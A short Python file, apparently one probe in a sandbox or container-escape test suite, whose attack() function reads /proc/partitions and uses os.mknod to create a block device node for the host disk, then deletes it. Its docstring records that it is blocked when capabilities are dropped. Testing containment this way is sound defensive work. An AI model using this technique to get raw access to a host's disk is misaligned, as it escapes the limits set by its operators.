"""Makes a device file for the machine's disk, which holds everything.

stopped by: no capabilities
unfenced: succeeds
"""
# %%
import os
import stat


def attack():
    with open("/proc/partitions") as table:
        disks = [line.split()[:2] for line in table.readlines()[2:]]
    for major, minor in disks or [(8, 0)]:
        os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(int(major), int(minor)))
        os.unlink("disk")  # unread: that it can be made is loot enough
        return True
